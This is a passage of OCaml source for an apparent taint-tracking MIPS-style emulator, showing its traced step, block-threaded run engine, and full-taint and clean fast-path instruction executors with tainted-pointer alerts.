       if o.obs_stores_seen land bit = 0 then begin
         o.obs_stores_seen <- o.obs_stores_seen lor bit;
         Ptaint_obs.Trace.emit tr
           (Ptaint_obs.Event.Tainted_store
              { cycle; pc; addr = ea; len = width_of_store op; region })
       end
     end
   | _ -> ());
  (match r with
   | Alert a ->
     Ptaint_obs.Trace.emit tr
       (Ptaint_obs.Event.Alert
          { cycle; pc = a.alert_pc; kind = alert_kind_name a.kind; reg = Reg.name a.reg;
            value = Tword.value a.reg_value })
   | Fault f ->
     Ptaint_obs.Trace.emit tr
       (Ptaint_obs.Event.Fault { cycle; pc; desc = Format.asprintf "%a" pp_fault f })
   | Normal | Syscall | Break_trap _ -> ());
  r

let step t = match t.obs with None -> step_core t | Some o -> step_traced t o

(* --- the block-threaded bulk engine ---

   [run t ~fuel] executes up to [fuel] instructions and returns
   [Normal] exactly when it stopped because the fuel ran out; any
   other result is the event that ended execution, with [pc], [icount]
   and all machine state byte-identical to what [fuel] iterations of
   [step] would have produced.  One dispatch per basic block: the pc
   is resolved once at block entry, the policy and guard configuration
   are hoisted out of the instruction loop entirely (nothing inside a
   [run] call can change them), and the straight-line body walks the
   pre-decoded flat opcode/field arrays with a single exception region
   per segment.

   Clean fast path: when the live-taint counters prove the machine
   clean (no tainted register slot, no tainted memory byte), the block
   body runs specialized handlers that skip every Prop/Mask
   computation, detector check, guard walk and taint-plane access.
   This is exact, not approximate: with zero live taint no instruction
   can create taint (ALU results of clean inputs are clean, loads read
   a provably zero taint plane) and no detector can fire (they all
   require a tainted operand), so the clean handlers are
   policy-independent.  Taint only enters through the kernel
   ([Taint_in] delivery on read/recv) or a snapshot restore — both
   happen between [run] calls, and a syscall always terminates a block
   — so checking the counters once per block is sound, and
   clean→tainted→clean transitions (e.g. via compare-untaints) are
   picked up at the next block boundary. *)

let run t ~fuel =
  if fuel <= 0 then Normal
  else
    match t.obs with
    | Some _ ->
      (* Per-instruction milestones wanted: drive the traced engine. *)
      let rec go n =
        if n <= 0 then Normal
        else match step t with Normal -> go (n - 1) | r -> r
      in
      go fuel
    | None ->
      let module M = Ptaint_mem.Memory in
      let module TS = Ptaint_mem.Tagged_store in
      let d = decoded t in
      let regs = t.regs and mem = t.mem in
      (* Memory accesses go straight at the tagged store's inline
         accessors, with the access stats bumped here — identically to
         the [Memory] wrappers — and [TS.Unmapped] caught per segment
         instead of per access. *)
      let tsto = M.tagged mem in
      let st = M.stats mem in
      let pol = t.policy in
      let track = pol.track in
      let cmp = track && pol.compare_untaints in
      let dd = Policy.detects_data_pointers pol && track in
      let dd_guard = Policy.detects_data_pointers pol in
      let dc = Policy.detects_control pol && track in
      let and_zero = pol.and_zero_untaints in
      let or_ones = pol.or_ones_untaints in
      let xor_idiom = pol.xor_idiom_untaints in
      let guards = t.guard_ranges in
      let has_guards = guards <> [] in
      let guarded_ea ea width =
        List.exists (fun (lo, len) -> ea < lo + len && ea + width > lo) guards
      in
      let base = d.Block.base and n = d.Block.n in
      let ops = d.Block.ops and fa = d.Block.fa and fb = d.Block.fb and fc = d.Block.fc in
      let stops = d.Block.stops and insns = d.Block.insns in
      (* Straight-line events: the executor parks [!j] on the faulting
         index and records the event here before breaking out. *)
      let ev = ref Normal in
      let stop_alert kind reg reg_value ea i =
        ev :=
          Alert
            { alert_pc = base + (i lsl 2); alert_insn = Array.unsafe_get insns i;
              kind; reg; reg_value; ea; stage = "EX/MEM" };
        raise_notrace Exit
      in
      let stop_misaligned addr width =
        ev := Fault (Misaligned { addr; width });
        raise_notrace Exit
      in
      (* Full-taint straight-line executor: [j0, stop) contains no
         terminators.  Semantics per opcode mirror [step_core]
         exactly, including evaluation order around compare-untaints
         and the address-alert / misalign / guard-alert store order. *)
      let exec_full j0 stop =
        let j = ref j0 in
        (try
           while !j < stop do
             let i = !j in
             (match Array.unsafe_get ops i with
              | Block.Onop -> ()
              | Block.Oadd ->
                let a = Regfile.get regs (Array.unsafe_get fb i)
                and b = Regfile.get regs (Array.unsafe_get fc i) in
                let m = if track then Prop.default (Tword.mask a) (Tword.mask b) else Mask.none in
                Regfile.set regs (Array.unsafe_get fa i)
                  (Tword.make ~v:(Word.add (Tword.value a) (Tword.value b)) ~m)
              | Block.Osub ->
                let a = Regfile.get regs (Array.unsafe_get fb i)
                and b = Regfile.get regs (Array.unsafe_get fc i) in
                let m = if track then Prop.default (Tword.mask a) (Tword.mask b) else Mask.none in
                Regfile.set regs (Array.unsafe_get fa i)
                  (Tword.make ~v:(Word.sub (Tword.value a) (Tword.value b)) ~m)
              | Block.Oand ->
                let a = Regfile.get regs (Array.unsafe_get fb i)
                and b = Regfile.get regs (Array.unsafe_get fc i) in
                let m =
                  if not track then Mask.none
                  else if and_zero then
                    Prop.and_bytes ~v1:(Tword.value a) ~m1:(Tword.mask a)
                      ~v2:(Tword.value b) ~m2:(Tword.mask b)
                  else Prop.default (Tword.mask a) (Tword.mask b)
                in
                Regfile.set regs (Array.unsafe_get fa i)
                  (Tword.make ~v:(Tword.value a land Tword.value b) ~m)
              | Block.Oor ->
                let a = Regfile.get regs (Array.unsafe_get fb i)
                and b = Regfile.get regs (Array.unsafe_get fc i) in
                let m =
                  if not track then Mask.none
                  else if or_ones then
                    Prop.or_bytes ~v1:(Tword.value a) ~m1:(Tword.mask a)
                      ~v2:(Tword.value b) ~m2:(Tword.mask b)
                  else Prop.default (Tword.mask a) (Tword.mask b)
                in
                Regfile.set regs (Array.unsafe_get fa i)
                  (Tword.make ~v:(Tword.value a lor Tword.value b) ~m)
              | Block.Oxor ->
                let rs = Array.unsafe_get fb i and rt = Array.unsafe_get fc i in
                let a = Regfile.get regs rs and b = Regfile.get regs rt in
                let m =
                  if not track then Mask.none
                  else if rs = rt && xor_idiom then Prop.xor_same
                  else Prop.default (Tword.mask a) (Tword.mask b)
                in
                Regfile.set regs (Array.unsafe_get fa i)
                  (Tword.make ~v:(Tword.value a lxor Tword.value b) ~m)
              | Block.Onor ->
                let a = Regfile.get regs (Array.unsafe_get fb i)
                and b = Regfile.get regs (Array.unsafe_get fc i) in
                let m = if track then Prop.default (Tword.mask a) (Tword.mask b) else Mask.none in
                Regfile.set regs (Array.unsafe_get fa i)
                  (Tword.make ~v:(Word.of_int (lnot (Tword.value a lor Tword.value b))) ~m)
              | Block.Oslt ->
                let rs = Array.unsafe_get fb i and rt = Array.unsafe_get fc i in
                let a = Regfile.get regs rs and b = Regfile.get regs rt in
                let v = if Word.lt_signed (Tword.value a) (Tword.value b) then 1 else 0 in
                let m =
                  if cmp || not track then Mask.none
                  else Prop.default (Tword.mask a) (Tword.mask b)
                in
                if cmp then begin
                  Regfile.untaint regs rs;
                  Regfile.untaint regs rt
                end;
                Regfile.set regs (Array.unsafe_get fa i) (Tword.make ~v ~m)
              | Block.Osltu ->
                let rs = Array.unsafe_get fb i and rt = Array.unsafe_get fc i in
                let a = Regfile.get regs rs and b = Regfile.get regs rt in
                let v = if Word.lt_unsigned (Tword.value a) (Tword.value b) then 1 else 0 in
                let m =
                  if cmp || not track then Mask.none
                  else Prop.default (Tword.mask a) (Tword.mask b)
                in
                if cmp then begin
                  Regfile.untaint regs rs;
                  Regfile.untaint regs rt
                end;
                Regfile.set regs (Array.unsafe_get fa i) (Tword.make ~v ~m)
              | Block.Osllv ->
                let a = Regfile.get regs (Array.unsafe_get fb i)
                and b = Regfile.get regs (Array.unsafe_get fc i) in
                let m =
                  if track then
                    Prop.shift Prop.Left ~amount:(Tword.value b) ~amount_mask:(Tword.mask b)
                      (Tword.mask a)
                  else Mask.none
                in
                Regfile.set regs (Array.unsafe_get fa i)
                  (Tword.make ~v:(Word.sll (Tword.value a) (Tword.value b land 31)) ~m)
              | Block.Osrlv ->
                let a = Regfile.get regs (Array.unsafe_get fb i)
                and b = Regfile.get regs (Array.unsafe_get fc i) in
                let m =
                  if track then
                    Prop.shift Prop.Right ~amount:(Tword.value b) ~amount_mask:(Tword.mask b)
                      (Tword.mask a)
                  else Mask.none
                in
                Regfile.set regs (Array.unsafe_get fa i)
                  (Tword.make ~v:(Word.srl (Tword.value a) (Tword.value b land 31)) ~m)
              | Block.Osrav ->
                let a = Regfile.get regs (Array.unsafe_get fb i)
                and b = Regfile.get regs (Array.unsafe_get fc i) in
                let m =
                  if track then
                    Prop.shift Prop.Right ~amount:(Tword.value b) ~amount_mask:(Tword.mask b)
                      (Tword.mask a)
                  else Mask.none
                in
                Regfile.set regs (Array.unsafe_get fa i)
                  (Tword.make ~v:(Word.sra (Tword.value a) (Tword.value b land 31)) ~m)
              | Block.Oaddi ->
                let a = Regfile.get regs (Array.unsafe_get fb i) in
                let m = if track then Tword.mask a else Mask.none in
                Regfile.set regs (Array.unsafe_get fa i)
                  (Tword.make ~v:(Word.add (Tword.value a) (Array.unsafe_get fc i)) ~m)
              | Block.Oandi ->
                let a = Regfile.get regs (Array.unsafe_get fb i) in
                let imm = Array.unsafe_get fc i in
                let m =
                  if not track then Mask.none
                  else if and_zero then
                    Prop.and_bytes ~v1:(Tword.value a) ~m1:(Tword.mask a) ~v2:imm ~m2:Mask.none
                  else Tword.mask a
                in
                Regfile.set regs (Array.unsafe_get fa i)
                  (Tword.make ~v:(Tword.value a land imm) ~m)
              | Block.Oori ->
                let a = Regfile.get regs (Array.unsafe_get fb i) in
                let m = if track then Tword.mask a else Mask.none in
                Regfile.set regs (Array.unsafe_get fa i)
                  (Tword.make ~v:(Tword.value a lor Array.unsafe_get fc i) ~m)
              | Block.Oxori ->
                let a = Regfile.get regs (Array.unsafe_get fb i) in
                let m = if track then Tword.mask a else Mask.none in
                Regfile.set regs (Array.unsafe_get fa i)
                  (Tword.make ~v:(Tword.value a lxor Array.unsafe_get fc i) ~m)
              | Block.Oslti ->
                let rs = Array.unsafe_get fb i in
                let a = Regfile.get regs rs in
                let v =
                  if Word.lt_signed (Tword.value a) (Array.unsafe_get fc i) then 1 else 0
                in
                let m = if cmp || not track then Mask.none else Tword.mask a in
                if cmp then Regfile.untaint regs rs;
                Regfile.set regs (Array.unsafe_get fa i) (Tword.make ~v ~m)
              | Block.Osltiu ->
                let rs = Array.unsafe_get fb i in
                let a = Regfile.get regs rs in
                let v =
                  if Word.lt_unsigned (Tword.value a) (Array.unsafe_get fc i) then 1 else 0
                in
                let m = if cmp || not track then Mask.none else Tword.mask a in
                if cmp then Regfile.untaint regs rs;
                Regfile.set regs (Array.unsafe_get fa i) (Tword.make ~v ~m)
              | Block.Osll ->
                let a = Regfile.get regs (Array.unsafe_get fb i) in
                let sh = Array.unsafe_get fc i in
                let m =
                  if track then
                    Prop.shift Prop.Left ~amount:sh ~amount_mask:Mask.none (Tword.mask a)
                  else Mask.none
                in
                Regfile.set regs (Array.unsafe_get fa i)
                  (Tword.make ~v:(Word.sll (Tword.value a) sh) ~m)
              | Block.Osrl ->
                let a = Regfile.get regs (Array.unsafe_get fb i) in
                let sh = Array.unsafe_get fc i in
                let m =
                  if track then
                    Prop.shift Prop.Right ~amount:sh ~amount_mask:Mask.none (Tword.mask a)
                  else Mask.none
                in
                Regfile.set regs (Array.unsafe_get fa i)
                  (Tword.make ~v:(Word.srl (Tword.value a) sh) ~m)
              | Block.Osra ->
                let a = Regfile.get regs (Array.unsafe_get fb i) in
                let sh = Array.unsafe_get fc i in
                let m =
                  if track then
                    Prop.shift Prop.Right ~amount:sh ~amount_mask:Mask.none (Tword.mask a)
                  else Mask.none
                in
                Regfile.set regs (Array.unsafe_get fa i)
                  (Tword.make ~v:(Word.sra (Tword.value a) sh) ~m)
              | Block.Olui ->
                Regfile.set regs (Array.unsafe_get fa i)
                  (Tword.untainted (Array.unsafe_get fc i))
              | Block.Olw ->
                let breg = Array.unsafe_get fb i in
                let a = Regfile.get regs breg in
                let ea = Word.add (Tword.value a) (Array.unsafe_get fc i) in
                if dd && Tword.is_tainted a then
                  stop_alert Load_address breg a (Some ea) i
                else if ea land 3 <> 0 then stop_misaligned ea 4
                else begin
                  let w = TS.load_word_aligned tsto ea in
                  st.M.loads <- st.M.loads + 1;
                  if Tword.is_tainted w then st.M.tainted_loads <- st.M.tainted_loads + 1;
                  let w = if track then w else Tword.untainted (Tword.value w) in
                  Regfile.set regs (Array.unsafe_get fa i) w
                end
              | Block.Olb ->
                let breg = Array.unsafe_get fb i in
                let a = Regfile.get regs breg in
                let ea = Word.add (Tword.value a) (Array.unsafe_get fc i) in
                if dd && Tword.is_tainted a then
                  stop_alert Load_address breg a (Some ea) i
                else begin
                  let w = TS.load_byte_tw tsto ea in
                  st.M.loads <- st.M.loads + 1;
                  if Tword.is_tainted w then st.M.tainted_loads <- st.M.tainted_loads + 1;
                  let w = Tword.with_value w (Word.sign_extend ~bits:8 (Tword.value w)) in
                  let w = if track then w else Tword.untainted (Tword.value w) in
                  Regfile.set regs (Array.unsafe_get fa i) w
                end
              | Block.Olbu ->
                let breg = Array.unsafe_get fb i in
                let a = Regfile.get regs breg in
                let ea = Word.add (Tword.value a) (Array.unsafe_get fc i) in
                if dd && Tword.is_tainted a then
                  stop_alert Load_address breg a (Some ea) i
                else begin
                  let w = TS.load_byte_tw tsto ea in
                  st.M.loads <- st.M.loads + 1;
                  if Tword.is_tainted w then st.M.tainted_loads <- st.M.tainted_loads + 1;
                  let w = if track then w else Tword.untainted (Tword.value w) in
                  Regfile.set regs (Array.unsafe_get fa i) w
                end
              | Block.Olh ->
                let breg = Array.unsafe_get fb i in
                let a = Regfile.get regs breg in
                let ea = Word.add (Tword.value a) (Array.unsafe_get fc i) in
                if dd && Tword.is_tainted a then
                  stop_alert Load_address breg a (Some ea) i
                else if ea land 1 <> 0 then stop_misaligned ea 2
                else begin
                  let w = TS.load_half_even tsto ea in
                  st.M.loads <- st.M.loads + 1;
                  if Tword.is_tainted w then st.M.tainted_loads <- st.M.tainted_loads + 1;
                  let w = Tword.with_value w (Word.sign_extend ~bits:16 (Tword.value w)) in
                  let w = if track then w else Tword.untainted (Tword.value w) in
                  Regfile.set regs (Array.unsafe_get fa i) w
                end
              | Block.Olhu ->
                let breg = Array.unsafe_get fb i in
                let a = Regfile.get regs breg in
                let ea = Word.add (Tword.value a) (Array.unsafe_get fc i) in
                if dd && Tword.is_tainted a then
                  stop_alert Load_address breg a (Some ea) i
                else if ea land 1 <> 0 then stop_misaligned ea 2
                else begin
                  let w = TS.load_half_even tsto ea in
                  st.M.loads <- st.M.loads + 1;
                  if Tword.is_tainted w then st.M.tainted_loads <- st.M.tainted_loads + 1;
                  let w = if track then w else Tword.untainted (Tword.value w) in
                  Regfile.set regs (Array.unsafe_get fa i) w
                end
              | Block.Osw ->
                let breg = Array.unsafe_get fb i in
                let a = Regfile.get regs breg in
                let ea = Word.add (Tword.value a) (Array.unsafe_get fc i) in
                if dd && Tword.is_tainted a then
                  stop_alert Store_address breg a (Some ea) i
                else if ea land 3 <> 0 then stop_misaligned ea 4
                else begin
                  let rt = Array.unsafe_get fa i in
                  let data = Regfile.get regs rt in
                  let data = if track then data else Tword.untainted (Tword.value data) in
                  if dd_guard && Tword.is_tainted data && has_guards && guarded_ea ea 4 then
                    stop_alert Guarded_store rt data (Some ea) i
                  else begin
                    TS.store_word_aligned tsto ea data;
                    st.M.stores <- st.M.stores + 1;
                    if Tword.is_tainted data then
                      st.M.tainted_stores <- st.M.tainted_stores + 1
                  end
                end
              | Block.Osb ->
                let breg = Array.unsafe_get fb i in
                let a = Regfile.get regs breg in
                let ea = Word.add (Tword.value a) (Array.unsafe_get fc i) in
                if dd && Tword.is_tainted a then
                  stop_alert Store_address breg a (Some ea) i
                else begin
                  let rt = Array.unsafe_get fa i in
                  let data = Regfile.get regs rt in
                  let data = if track then data else Tword.untainted (Tword.value data) in
                  if dd_guard && Tword.is_tainted data && has_guards && guarded_ea ea 1 then
                    stop_alert Guarded_store rt data (Some ea) i
                  else begin
                    let taint = Mask.byte (Tword.mask data) 0 in
                    TS.store_byte tsto ea (Tword.value data land 0xff) ~taint;
                    st.M.stores <- st.M.stores + 1;
                    if taint then st.M.tainted_stores <- st.M.tainted_stores + 1
                  end
                end
              | Block.Osh ->
                let breg = Array.unsafe_get fb i in
                let a = Regfile.get regs breg in
                let ea = Word.add (Tword.value a) (Array.unsafe_get fc i) in
                if dd && Tword.is_tainted a then
                  stop_alert Store_address breg a (Some ea) i
                else if ea land 1 <> 0 then stop_misaligned ea 2
                else begin
                  let rt = Array.unsafe_get fa i in
                  let data = Regfile.get regs rt in
                  let data = if track then data else Tword.untainted (Tword.value data) in
                  if dd_guard && Tword.is_tainted data && has_guards && guarded_ea ea 2 then
                    stop_alert Guarded_store rt data (Some ea) i
                  else begin
                    let m = Tword.mask data in
                    TS.store_half_even tsto ea (Tword.value data) ~m;
                    st.M.stores <- st.M.stores + 1;
                    if Mask.is_tainted m then st.M.tainted_stores <- st.M.tainted_stores + 1
                  end
                end
              | Block.Omult ->
                let a = Regfile.get regs (Array.unsafe_get fa i)
                and b = Regfile.get regs (Array.unsafe_get fb i) in
                let av = Tword.value a and bv = Tword.value b in
                let m = if track then Prop.default (Tword.mask a) (Tword.mask b) else Mask.none in
                Regfile.set_hi regs (Tword.make ~v:(Word.mul_hi_signed av bv) ~m);
                Regfile.set_lo regs (Tword.make ~v:(Word.mul_lo av bv) ~m)
              | Block.Omultu ->
                let a = Regfile.get regs (Array.unsafe_get fa i)
                and b = Regfile.get regs (Array.unsafe_get fb i) in
                let av = Tword.value a and bv = Tword.value b in
                let m = if track then Prop.default (Tword.mask a) (Tword.mask b) else Mask.none in
                Regfile.set_hi regs (Tword.make ~v:(Word.mul_hi_unsigned av bv) ~m);
                Regfile.set_lo regs (Tword.make ~v:(Word.mul_lo av bv) ~m)
              | Block.Odiv ->
                let a = Regfile.get regs (Array.unsafe_get fa i)
                and b = Regfile.get regs (Array.unsafe_get fb i) in
                let q, r = Word.div_signed (Tword.value a) (Tword.value b) in
                let m = if track then Prop.default (Tword.mask a) (Tword.mask b) else Mask.none in
                Regfile.set_hi regs (Tword.make ~v:r ~m);
                Regfile.set_lo regs (Tword.make ~v:q ~m)
              | Block.Odivu ->
                let a = Regfile.get regs (Array.unsafe_get fa i)
                and b = Regfile.get regs (Array.unsafe_get fb i) in
                let q, r = Word.div_unsigned (Tword.value a) (Tword.value b) in
                let m = if track then Prop.default (Tword.mask a) (Tword.mask b) else Mask.none in
                Regfile.set_hi regs (Tword.make ~v:r ~m);
                Regfile.set_lo regs (Tword.make ~v:q ~m)
              | Block.Omfhi -> Regfile.set regs (Array.unsafe_get fa i) (Regfile.get_hi regs)
              | Block.Omflo -> Regfile.set regs (Array.unsafe_get fa i) (Regfile.get_lo regs)
              | Block.Omthi -> Regfile.set_hi regs (Regfile.get regs (Array.unsafe_get fa i))
              | Block.Omtlo -> Regfile.set_lo regs (Regfile.get regs (Array.unsafe_get fa i))
              | Block.Obeq | Block.Obne | Block.Oblez | Block.Obgtz | Block.Obltz
              | Block.Obgez | Block.Oj | Block.Ojal | Block.Ojr | Block.Ojalr
              | Block.Osyscall | Block.Obreak ->
                (* terminators never appear inside a straight-line body *)
                assert false);
             j := i + 1
           done
         with
         | Exit -> ()
         | TS.Unmapped addr ->
           let access =
             match Array.unsafe_get ops !j with
             | Block.Osb | Block.Osh | Block.Osw -> M.Store
             | _ -> M.Load
           in
           ev := Fault (Segfault { addr; access }));
        !j
      in
      (* Clean straight-line executor: only sound while both live-taint
         counters are zero.  Pure value semantics — no Tword packing,
         no mask algebra, no detector or guard checks, data-plane-only
         memory traffic.  Misalignment and segfaults still behave
         exactly like the full engine. *)
      let exec_clean j0 stop =
        let j = ref j0 in
        (try
           while !j < stop do
             let i = !j in
             (match Array.unsafe_get ops i with
              | Block.Onop -> ()
              | Block.Oadd ->
                Regfile.set_value regs (Array.unsafe_get fa i)
                  (Regfile.value regs (Array.unsafe_get fb i)
                  + Regfile.value regs (Array.unsafe_get fc i))
              | Block.Osub ->
                Regfile.set_value regs (Array.unsafe_get fa i)
                  (Regfile.value regs (Array.unsafe_get fb i)
                  - Regfile.value regs (Array.unsafe_get fc i))
              | Block.Oand ->
                Regfile.set_value regs (Array.unsafe_get fa i)
                  (Regfile.value regs (Array.unsafe_get fb i)
                  land Regfile.value regs (Array.unsafe_get fc i))
              | Block.Oor ->
                Regfile.set_value regs (Array.unsafe_get fa i)
                  (Regfile.value regs (Array.unsafe_get fb i)
                  lor Regfile.value regs (Array.unsafe_get fc i))
              | Block.Oxor ->
                Regfile.set_value regs (Array.unsafe_get fa i)
                  (Regfile.value regs (Array.unsafe_get fb i)
                  lxor Regfile.value regs (Array.unsafe_get fc i))
              | Block.Onor ->
                Regfile.set_value regs (Array.unsafe_get fa i)
                  (lnot
                     (Regfile.value regs (Array.unsafe_get fb i)
                     lor Regfile.value regs (Array.unsafe_get fc i)))
              | Block.Oslt ->
                Regfile.set_value regs (Array.unsafe_get fa i)
                  (if
                     Word.lt_signed
                       (Regfile.value regs (Array.unsafe_get fb i))
                       (Regfile.value regs (Array.unsafe_get fc i))
                   then 1
                   else 0)
              | Block.Osltu ->
                Regfile.set_value regs (Array.unsafe_get fa i)
                  (if
                     Word.lt_unsigned
                       (Regfile.value regs (Array.unsafe_get fb i))
                       (Regfile.value regs (Array.unsafe_get fc i))
                   then 1
                   else 0)
              | Block.Osllv ->
                Regfile.set_value regs (Array.unsafe_get fa i)
                  (Word.sll
                     (Regfile.value regs (Array.unsafe_get fb i))
                     (Regfile.value regs (Array.unsafe_get fc i)))
              | Block.Osrlv ->
                Regfile.set_value regs (Array.unsafe_get fa i)
                  (Word.srl
                     (Regfile.value regs (Array.unsafe_get fb i))
                     (Regfile.value regs (Array.unsafe_get fc i)))
              | Block.Osrav ->
                Regfile.set_value regs (Array.unsafe_get fa i)
                  (Word.sra
                     (Regfile.value regs (Array.unsafe_get fb i))
                     (Regfile.value regs (Array.unsafe_get fc i)))
              | Block.Oaddi ->
                Regfile.set_value regs (Array.unsafe_get fa i)
                  (Regfile.value regs (Array.unsafe_get fb i) + Array.unsafe_get fc i)
              | Block.Oandi ->
                Regfile.set_value regs (Array.unsafe_get fa i)
                  (Regfile.value regs (Array.unsafe_get fb i) land Array.unsafe_get fc i)
              | Block.Oori ->
                Regfile.set_value regs (Array.unsafe_get fa i)
                  (Regfile.value regs (Array.unsafe_get fb i) lor Array.unsafe_get fc i)
              | Block.Oxori ->
                Regfile.set_value regs (Array.unsafe_get fa i)
                  (Regfile.value regs (Array.unsafe_get fb i) lxor Array.unsafe_get fc i)
              | Block.Oslti ->
                Regfile.set_value regs (Array.unsafe_get fa i)
                  (if
                     Word.lt_signed
                       (Regfile.value regs (Array.unsafe_get fb i))
                       (Array.unsafe_get fc i)
                   then 1
                   else 0)
              | Block.Osltiu ->
                Regfile.set_value regs (Array.unsafe_get fa i)
                  (if
                     Word.lt_unsigned
                       (Regfile.value regs (Array.unsafe_get fb i))
                       (Array.unsafe_get fc i)
                   then 1
                   else 0)
              | Block.Osll ->
                Regfile.set_value regs (Array.unsafe_get fa i)
                  (Word.sll (Regfile.value regs (Array.unsafe_get fb i)) (Array.unsafe_get fc i))
              | Block.Osrl ->
                Regfile.set_value regs (Array.unsafe_get fa i)
                  (Word.srl (Regfile.value regs (Array.unsafe_get fb i)) (Array.unsafe_get fc i))
              | Block.Osra ->
                Regfile.set_value regs (Array.unsafe_get fa i)
                  (Word.sra (Regfile.value regs (Array.unsafe_get fb i)) (Array.unsafe_get fc i))
              | Block.Olui ->
                Regfile.set_value regs (Array.unsafe_get fa i) (Array.unsafe_get fc i)
              | Block.Olw ->
                let ea =
                  Word.add (Regfile.value regs (Array.unsafe_get fb i)) (Array.unsafe_get fc i)
                in
                if ea land 3 <> 0 then stop_misaligned ea 4
                else begin
                  let v = TS.load_word_clean_aligned tsto ea in
                  st.M.loads <- st.M.loads + 1;
                  Regfile.set_value regs (Array.unsafe_get fa i) v
                end
              | Block.Olb ->
                let ea =
                  Word.add (Regfile.value regs (Array.unsafe_get fb i)) (Array.unsafe_get fc i)
                in
                let v = TS.load_byte_clean tsto ea in
                st.M.loads <- st.M.loads + 1;
                Regfile.set_value regs (Array.unsafe_get fa i) (Word.sign_extend ~bits:8 v)
              | Block.Olbu ->
                let ea =
                  Word.add (Regfile.value regs (Array.unsafe_get fb i)) (Array.unsafe_get fc i)
                in
                let v = TS.load_byte_clean tsto ea in
                st.M.loads <- st.M.loads + 1;
                Regfile.set_value regs (Array.unsafe_get fa i) v
              | Block.Olh ->
                let ea =
                  Word.add (Regfile.value regs (Array.unsafe_get fb i)) (Array.unsafe_get fc i)
                in
                if ea land 1 <> 0 then stop_misaligned ea 2
                else begin
                  let v = TS.load_half_clean_even tsto ea in
                  st.M.loads <- st.M.loads + 1;
                  Regfile.set_value regs (Array.unsafe_get fa i) (Word.sign_extend ~bits:16 v)
                end
              | Block.Olhu ->
                let ea =
                  Word.add (Regfile.value regs (Array.unsafe_get fb i)) (Array.unsafe_get fc i)
                in
                if ea land 1 <> 0 then stop_misaligned ea 2
                else begin
                  let v = TS.load_half_clean_even tsto ea in
                  st.M.loads <- st.M.loads + 1;
                  Regfile.set_value regs (Array.unsafe_get fa i) v
                end
              | Block.Osw ->
                let ea =
                  Word.add (Regfile.value regs (Array.unsafe_get fb i)) (Array.unsafe_get fc i)
                in
                if ea land 3 <> 0 then stop_misaligned ea 4
                else begin
                  TS.store_word_clean_aligned tsto ea
                    (Regfile.value regs (Array.unsafe_get fa i));
                  st.M.stores <- st.M.stores + 1
                end
              | Block.Osb ->
                let ea =
                  Word.add (Regfile.value regs (Array.unsafe_get fb i)) (Array.unsafe_get fc i)
                in
                TS.store_byte_clean tsto ea (Regfile.value regs (Array.unsafe_get fa i));
                st.M.stores <- st.M.stores + 1
              | Block.Osh ->
                let ea =
                  Word.add (Regfile.value regs (Array.unsafe_get fb i)) (Array.unsafe_get fc i)
                in
                if ea land 1 <> 0 then stop_misaligned ea 2
                else begin
                  TS.store_half_clean_even tsto ea
                    (Regfile.value regs (Array.unsafe_get fa i));
                  st.M.stores <- st.M.stores + 1
                end
              | Block.Omult ->
                let av = Regfile.value regs (Array.unsafe_get fa i)
                and bv = Regfile.value regs (Array.unsafe_get fb i) in
                Regfile.set_hi regs (Tword.untainted (Word.mul_hi_signed av bv));
                Regfile.set_lo regs (Tword.untainted (Word.mul_lo av bv))
              | Block.Omultu ->
                let av = Regfile.value regs (Array.unsafe_get fa i)
                and bv = Regfile.value regs (Array.unsafe_get fb i) in
                Regfile.set_hi regs (Tword.untainted (Word.mul_hi_unsigned av bv));
                Regfile.set_lo regs (Tword.untainted (Word.mul_lo av bv))
              | Block.Odiv ->
                let q, r =
                  Word.div_signed
                    (Regfile.value regs (Array.unsafe_get fa i))
                    (Regfile.value regs (Array.unsafe_get fb i))
                in
                Regfile.set_hi regs (Tword.untainted r);
                Regfile.set_lo regs (Tword.untainted q)
              | Block.Odivu ->
                let q, r =
                  Word.div_unsigned
                    (Regfile.value regs (Array.unsafe_get fa i))
                    (Regfile.value regs (Array.unsafe_get fb i))
                in
                Regfile.set_hi regs (Tword.untainted r);
                Regfile.set_lo regs (Tword.untainted q)
              | Block.Omfhi ->
                Regfile.set_value regs (Array.unsafe_get fa i) (Tword.value (Regfile.get_hi regs))
              | Block.Omflo ->
                Regfile.set_value regs (Array.unsafe_get fa i) (Tword.value (Regfile.get_lo regs))
              | Block.Omthi ->
                Regfile.set_hi regs
                  (Tword.untainted (Regfile.value regs (Array.unsafe_get fa i)))
              | Block.Omtlo ->
                Regfile.set_lo regs
                  (Tword.untainted (Regfile.value regs (Array.unsafe_get fa i)))
              | Block.Obeq | Block.Obne | Block.Oblez | Block.Obgtz | Block.Obltz
              | Block.Obgez | Block.Oj | Block.Ojal | Block.Ojr | Block.Ojalr
              | Block.Osyscall | Block.Obreak ->
                assert false);
             j := i + 1
           done
         with
         | Exit -> ()
         | TS.Unmapped addr ->
           let access =
             match Array.unsafe_get ops !j with
             | Block.Osb | Block.Osh | Block.Osw -> M.Store
             | _ -> M.Load
           in
           ev := Fault (Segfault { addr; access }));
        !j
      in
      (* Terminator executor, shared by both modes: compare-untaints of
         clean registers are no-ops and tainted-target alerts cannot
         fire without live taint, so one copy serves both.  Alert arms
         leave the pc parked on the terminator, like [step_core]. *)
      let exec_term k =
        let pc = base + (k lsl 2) in
        let next = pc + 4 in
        match Array.unsafe_get ops k with
        | Block.Obeq ->
          let rs = Array.unsafe_get fa k and rt = Array.unsafe_get fb k in
          let a = Regfile.value regs rs and b = Regfile.value regs rt in
          if cmp then begin
            Regfile.untaint regs rs;
            Regfile.untaint regs rt
          end;
          t.pc <- (if a = b then next + Array.unsafe_get fc k else next);
          Normal
        | Block.Obne ->
          let rs = Array.unsafe_get fa k and rt = Array.unsafe_get fb k in
          let a = Regfile.value regs rs and b = Regfile.value regs rt in
          if cmp then begin
            Regfile.untaint regs rs;
            Regfile.untaint regs rt
          end;
          t.pc <- (if a <> b then next + Array.unsafe_get fc k else next);
          Normal
        | Block.Oblez ->
          let rs = Array.unsafe_get fa k in
          let a = Word.to_signed (Regfile.value regs rs) in
          if cmp then Regfile.untaint regs rs;
          t.pc <- (if a <= 0 then next + Array.unsafe_get fc k else next);
          Normal
        | Block.Obgtz ->
          let rs = Array.unsafe_get fa k in
          let a = Word.to_signed (Regfile.value regs rs) in
          if cmp then Regfile.untaint regs rs;
          t.pc <- (if a > 0 then next + Array.unsafe_get fc k else next);
          Normal
        | Block.Obltz ->
          let rs = Array.unsafe_get fa k in
          let a = Word.to_signed (Regfile.value regs rs) in
          if cmp then Regfile.untaint regs rs;
          t.pc <- (if a < 0 then next + Array.unsafe_get fc k else next);
          Normal
        | Block.Obgez ->
          let rs = Array.unsafe_get fa k in
          let a = Word.to_signed (Regfile.value regs rs) in
